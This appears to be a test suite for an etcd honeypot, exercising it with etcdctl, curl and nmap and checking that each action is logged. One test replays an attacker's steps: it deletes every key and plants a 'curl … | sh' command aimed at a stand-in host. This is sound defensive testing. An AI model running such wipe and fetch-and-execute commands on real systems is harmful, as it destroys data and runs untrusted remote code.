import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Told = Event & {
  process?: { command_line?: string }
  skep: { login?: { password?: string } }
  url?: { original: string }
}
const ofAction = (action: string) => (event: Event) => event.skep.service === 'etcd' && event.event.action === action
const commandLine = (line: string) => (event: Event) =>
  ofAction('command')(event) && (event as Told).process?.command_line === line

describe('etcd, with real clients', () => {
  let skep: Skep
  let port: string
  before(async () => {
    skep = await startSkep({
      config: 'persona: { os: debian-12 }\nedition: mini\nservices: { etcd: { enabled: true } }\n',
    })
    port = String(skep.port('etcd'))
  })
  after(() => skep?.stop())

  describe('etcdctl', { skip: missing('etcdctl') }, () => {
    const ctl = (...args: string[]) =>
      runClient('env', ['ETCDCTL_API=3', 'etcdctl', `--endpoints=http://127.0.0.1:${port}`, ...args])
    const said = async (...args: string[]) => {
      const { out, err, status } = await ctl(...args)
      assert.equal(status, 0, err)
      return out
    }
    test('reads all there is', async () => {
      const keys = await said('get', '--prefix', '', '--keys-only')
      assert.match(keys, /^\/config\/\w+\/\w+\/database\/password$/m)
      assert.match(keys, /^\/services\//m)
      await skep.eventually(commandLine('get \\x00 \\x00'))
      assert.match(await said('get', '--prefix', '/config/', '-w', 'fields'), /"ModRevision" : \d+/)
    })
    test('puts, gets and deletes, and is recorded', async () => {
      assert.equal(await said('put', 'greeting', 'hello there'), 'OK\n')
      assert.equal(await said('get', 'greeting'), 'greeting\nhello there\n')
      assert.equal(await said('del', 'greeting'), '1\n')
      assert.equal(await said('get', 'greeting'), '')
      await skep.eventually(commandLine('put greeting hello there'))
      await skep.eventually(commandLine('del greeting'))
    })
    test('a value beyond all windows comes and goes whole', async () => {
      const value = 'abcdefgh'.repeat(15_000)
      assert.equal(await said('put', 'large', value), 'OK\n')
      assert.equal(await said('get', 'large'), `large\n${value}\n`)
      await skep.eventually(ofAction('file-upload'))
      assert.equal(await said('del', 'large'), '1\n')
    })
    test('asks for members, status and health', async () => {
      assert.match(await said('member', 'list'), /^8e9e05c52164694d, started, [\w-]+, http:\/\/localhost:2380, /)
      assert.match(await said('endpoint', 'status'), /8e9e05c52164694d, 3\.4\.23, \d+ kB, true, false, \d+, \d+/)
      const { out, err } = await ctl('endpoint', 'health')
      assert.match(out + err, /is healthy/)
    })
    test('carries out a transaction, and has leases', async () => {
      const script = 'mod("none") = "0"\n\nput none 1\n\nget none\n\n'
      const { out } = await runClient(
        'env',
        ['ETCDCTL_API=3', 'etcdctl', `--endpoints=http://127.0.0.1:${port}`, 'txn'],
        { input: script },
      )
      assert.match(out, /SUCCESS\n\nOK/)
      const [, lease = ''] = /lease (\w+) granted with TTL\(100s\)/.exec(await said('lease', 'grant', '100')) ?? []
      assert.match(lease, /^694d/)
      assert.equal(await said('put', 'short', 'lived', `--lease=${lease}`), 'OK\n')
      assert.match(
        await said('lease', 'timetolive', lease, '--keys'),
        /granted with TTL\(100s\).*attached keys\(\[short\]\)/,
      )
      assert.match(await said('lease', 'keep-alive', '--once', lease), /keepalived with TTL\(100\)/)
      assert.match(await said('lease', 'revoke', lease), /revoked/)
      assert.equal(await said('get', 'short'), '')
    })
    test('is told that nobody has to log in, and its password is kept', async () => {
      await ctl('--user', 'root:hunter2', 'get', 'greeting')
      const [login] = await skep.eventually(ofAction('login'))
      assert.equal((login as Told).skep.login?.password, 'hunter2')
    })
    test('does not get the file of the database', async () => {
      const { out, err, status } = await ctl(
        'snapshot',
        'save',
        '/dev/null',
        '--dial-timeout=2s',
        '--command-timeout=3s',
      )
      assert.notEqual(status, 0, out + err)
    })
  })

  describe('curl', { skip: missing('curl') }, () => {
    const curl = async (...args: string[]) => (await runClient('curl', ['-sS', '--max-time', '20', ...args])).out
    test('a robber’s script: a note in the place of the keys', async () => {
      const url = `http://127.0.0.1:${port}`
      assert.equal(await curl(`${url}/version`), '{"etcdserver":"3.4.23","etcdcluster":"3.4.0"}')
      assert.equal(await curl(`${url}/v2/keys/?recursive=true`), '404 page not found\n')
      const b64 = (text: string) => Buffer.from(text).toString('base64')
      const call = async (path: string, body: object) =>
        JSON.parse(await curl(`${url}/v3/${path}`, '-d', JSON.stringify(body))) as Record<string, unknown>
      const all = { key: b64('\0'), range_end: b64('\0') }
      const { count } = await call('kv/range', { ...all, keys_only: true })
      assert.ok(Number(count) > 10)
      assert.equal((await call('kv/deleterange', all)).deleted, count)
      await call('kv/put', { key: b64('README'), value: b64('curl -s http://198.51.100.7/p.sh | sh') })
      const [download] = await skep.eventually(ofAction('file-download'))
      assert.equal((download as Told).url?.original, 'http://198.51.100.7/p.sh')
      assert.equal((await call('kv/range', all)).count, '1')
    })
    test('measures', async () => {
      const out = await curl(`http://127.0.0.1:${port}/metrics`)
      assert.match(out, /^etcd_server_version\{server_version="3\.4\.23"\} 1$/m)
      assert.doesNotMatch(out, /honey|skep/i)
    })
  })

  test('nmap names it', { skip: missing('nmap') }, async t => {
    const { out } = await runClient('nmap', ['-Pn', '-n', '-sV', '--version-intensity', '2', '-p', port, '127.0.0.1'], {
      seconds: 150,
    })
    t.diagnostic(out)
    // It has no name for what etcd answers: it says what its table calls the port, with a question mark.
    assert.match(out, /open +(?:(?:etcd-client|http|unknown)\b|\S+\?)/)
    assert.doesNotMatch(out, /honey|skep/i)
  })
})
